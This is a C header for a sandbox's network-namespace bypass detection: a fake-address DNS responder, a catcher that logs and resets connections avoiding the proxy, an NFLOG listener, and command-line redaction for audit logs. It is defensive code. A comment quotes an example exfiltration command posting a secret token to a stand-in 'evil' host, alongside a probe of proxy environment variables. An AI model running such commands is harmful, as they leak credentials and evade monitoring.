/*
 * bypass.h: what a sandbox's network namespace needs besides its proxy.
 *
 * A sandbox runs in its own network namespace (gateway/netns.c builds it).
 * The proxy listens on the host side of the sandbox's veth; everything
 * else the sandbox sends is turned, by nftables rules inside the namespace,
 * toward two listeners that live *inside* that namespace:
 *
 *   - the DNS responder (UDP 127.0.0.1:53 in the namespace; resolv.conf
 *     names it): every A query gets a fake address from a pool (198.18/15
 *     by default) that it remembers name <-> address; AAAA and the rest get
 *     an empty NOERROR answer;
 *   - the bypass catcher (TCP 127.0.0.1:15001 and [::1]:15001 in the
 *     namespace; every outbound TCP connection but the one to the proxy is
 *     REDIRECTed there): it reads the original destination (SO_ORIGINAL_DST: the
 *     namespace's conntrack, which the socket shares), names the caller the
 *     way the proxy does (sock_diag *in that namespace*), emits NET:REFUSE
 *     (engine `bypass`) and FINDING:CREATE "proxy bypass attempt", and
 *     resets the connection.
 *
 *   - the NFLOG listener (UDP over IPv6, any port: logged by the rules to
 *     an NFLOG group, then dropped): the same events, the sender named by
 *     its socket's port in the namespace's udp6 table.
 *
 * Why inside: a listener in the root namespace would see the connection
 * after the NAT but not the conntrack entry that knows where it was going,
 * and sock_diag answers only for the namespace of the socket that asks.
 *
 * Thread: the catcher and the responder run on the loop thread that created
 * them; identity lookups run on the libuv threadpool, each entering the
 * namespace for its netlink request (px_ident_lookup_netns).
 */
#ifndef TOLLGATE_PROXY_BYPASS_H
#define TOLLGATE_PROXY_BYPASS_H

#include <netinet/in.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/socket.h>

#include <uv.h>

#include "proxy/proxy.h"

/* ---- network namespaces (netns.c) ----------------------------------------------- */

/* Runs `fn(arg)` on the calling thread while it is in the network namespace
 * `netns_fd` (an open /run/netns/NAME or /proc/PID/ns/net), then puts the
 * thread back. netns_fd <= 0: runs it where it is. Returns fn's value, or
 * -errno when the namespace could not be entered. A thread that cannot
 * return to its own namespace aborts the process (it would carry on in the
 * sandbox's). Any thread; needs CAP_SYS_ADMIN. */
int px_netns_run(int netns_fd, int (*fn)(void *arg), void *arg);

/* A socket bound in the namespace: SOCK_STREAM (listening, backlog 128) or
 * SOCK_DGRAM, on ip:port (IPv4 or IPv6 text; an IPv6 socket is
 * IPV6_V6ONLY), non-blocking and close-on-exec.
 * Returns the fd or -errno; err says which step failed. */
int px_netns_socket(int netns_fd, int type, const char *ip, int port, char *err, size_t errlen);

/* A command line as the audit trail keeps it (redact.c; the proxy, the
 * catcher and sandbox exec's PROC events use it): the program, option
 * names, the scheme://host[:port] of URLs (no user:password@); every other
 * value becomes <redacted>, so `curl -d "token=$SECRET" https://evil/` does
 * not copy the secret into the logs. Arguments separated by spaces; out is
 * always NUL-terminated (cut at n). */
void px_cmdline_redact(const char *in, char *out, size_t n);
/* The same, one token per argument: args holds len bytes of arguments each
 * ended by a NUL (the last one's may be missing), as /proc/PID/cmdline; the
 * output has exactly one space-separated token per argument, so
 * `sh -c 'env | grep -i proxy'` stays three: `sh -c <redacted>`. */
void px_argv_redact(const char *args, size_t len, char *out, size_t n);

/* ---- the DNS responder (dns.c) --------------------------------------------------- */

typedef struct px_dns px_dns_t;

#define PX_DNS_DEFAULT_POOL "198.18.0.0"
#define PX_DNS_MAX_NAMES    4096 /* the oldest name gives its address up past this */

/* The name <-> address map and the responder. `pool` is the first address
 * of the fake range (IPv4 text; PX_DNS_DEFAULT_POOL); addresses pool+1 ..
 * pool+PX_DNS_MAX_NAMES are handed out. NULL (with err) on a bad pool. */
px_dns_t *px_dns_create(const char *pool, char *err, size_t errlen);
/* Stops serving (if started) and frees once the loop has closed the
 * socket. NULL is ok. */
void px_dns_destroy(px_dns_t *d);

/* Serves DNS on `udp_fd` (takes ownership; a bound datagram socket) on
 * `loop`. 0 or a negative libuv error. */
int px_dns_start(px_dns_t *d, uv_loop_t *loop, int udp_fd);

/* The answer to one query message (untrusted bytes; any length). Returns
 * the reply length written to `out` (cap >= 512 is always enough for a
 * question of at most 253 bytes), or -EINVAL when the message should be
 * dropped (too short, a response, not one question, bad labels). */
int px_dns_reply(px_dns_t *d, const uint8_t *q, size_t n, uint8_t *out, size_t cap);

/* The name an address was handed out for (lower case, no trailing dot):
 * true and `out` filled, or false. `addr` in network byte order. */
bool px_dns_name_of(const px_dns_t *d, uint32_t addr, char *out, size_t outlen);

typedef struct {
    uint64_t queries, answered, dropped, names;
} px_dns_stats_t;
void px_dns_stats(const px_dns_t *d, px_dns_stats_t *st);

/* ---- the bypass catcher (catcher.c) ---------------------------------------------- */

typedef struct px_catcher px_catcher_t;

/* Serves `listen_fd` (takes ownership; a listening TCP socket created in
 * the namespace `netns_fd`, which is borrowed and must outlive the
 * catcher). `dns` (borrowed, may be NULL) names fake addresses. Only
 * hooks->emit and the names of hooks are used. 0 or -errno with err. */
int px_catcher_create(uv_loop_t *loop, int listen_fd, int netns_fd, px_dns_t *dns,
                      const px_hooks_t *hooks, px_catcher_t **out, char *err, size_t errlen);
/* Adds the IPv6 listener (takes ownership of `listen_fd`: a listening TCP
 * socket on [::1], same port, made in the same namespace). 0 or a negative
 * libuv error with err; the catcher works on without it. Loop thread. */
int px_catcher_listen6(px_catcher_t *c, int listen_fd, char *err, size_t errlen);
/* Closes the listener and every connection; memory goes once the loop has
 * run the closes and the lookups in flight have ended. NULL is ok. */
void px_catcher_destroy(px_catcher_t *c);

typedef struct {
    uint64_t caught, unnamed, overflow;
    uint64_t caught6; /* of caught: over IPv6 */
} px_catcher_stats_t;
void px_catcher_stats(const px_catcher_t *c, px_catcher_stats_t *st);

/* ---- UDP over IPv6: the NFLOG listener (nflog.c, nflog_parse.c) ------------------ */

typedef struct px_nflog px_nflog_t;

#define PX_NFLOG_SNAPLEN 256 /* bytes of each packet copied: the headers */

/* A netlink socket (NETLINK_NETFILTER) made inside the namespace `netns_fd`
 * and bound to NFLOG `group` there (copy mode packet, queue threshold 1).
 * Blocks: the threadpool. The fd (non-blocking, close-on-exec) or -errno
 * with err. */
int px_nflog_socket(int netns_fd, uint16_t group, char *err, size_t errlen);

/* Serves `fd` (takes ownership; from px_nflog_socket) on `loop`: every
 * logged UDP/IPv6 datagram becomes NET:REFUSE + FINDING:CREATE (engine
 * `bypass`, protocol udp), its sender named in the namespace `netns_fd`
 * (borrowed, outlives the listener). Repeats of one socket and destination
 * within 10 s, more than 20 events a second and more than 32 lookups at
 * once are counted, not recorded. 0 or a negative libuv error with err. */
int px_nflog_create(uv_loop_t *loop, int fd, int netns_fd, const px_hooks_t *hooks,
                    px_nflog_t **out, char *err, size_t errlen);
/* Stops; memory goes once the loop has closed the socket and the lookups in
 * flight have ended. NULL is ok. Loop thread. */
void px_nflog_destroy(px_nflog_t *l);

typedef struct {
    uint64_t seen;       /* UDP/IPv6 datagrams logged */
    uint64_t recorded;   /* events emitted */
    uint64_t unnamed;    /* of recorded: the sender could not be named */
    uint64_t suppressed; /* seen, not recorded (repeats, rate, lookups busy) */
    uint64_t lost;       /* socket buffer overruns (ENOBUFS): messages dropped */
    uint64_t unparsed;   /* messages that were not a UDP/IPv6 packet */
} px_nflog_stats_t;
/* NULL: all zero. */
void px_nflog_stats(const px_nflog_t *l, px_nflog_stats_t *st);

/* One UDP datagram over IPv6: its ends (ports in network order). */
typedef struct {
    struct sockaddr_in6 src, dst;
} px_udp6_pkt_t;

/* One IPv6 packet from its network header (untrusted bytes): 0 and `out`
 * when a UDP header is within `n` (after at most 8 extension headers);
 * -ENOENT for another protocol or a later fragment; -EINVAL malformed. */
int px_ipv6_udp_parse(const uint8_t *p, size_t n, px_udp6_pkt_t *out);

/* What one recv() of an NFLOG socket holds (untrusted bytes, any length,
 * any alignment): the UDP/IPv6 datagrams of its NFULNL_MSG_PACKET messages,
 * the first `max` into out. Returns how many there were (may exceed max);
 * *skipped (may be NULL) counts the other messages. Stops at the first
 * message whose length does not fit. */
size_t px_nflog_parse(const uint8_t *buf, size_t len, px_udp6_pkt_t *out, size_t max,
                      size_t *skipped);

#endif
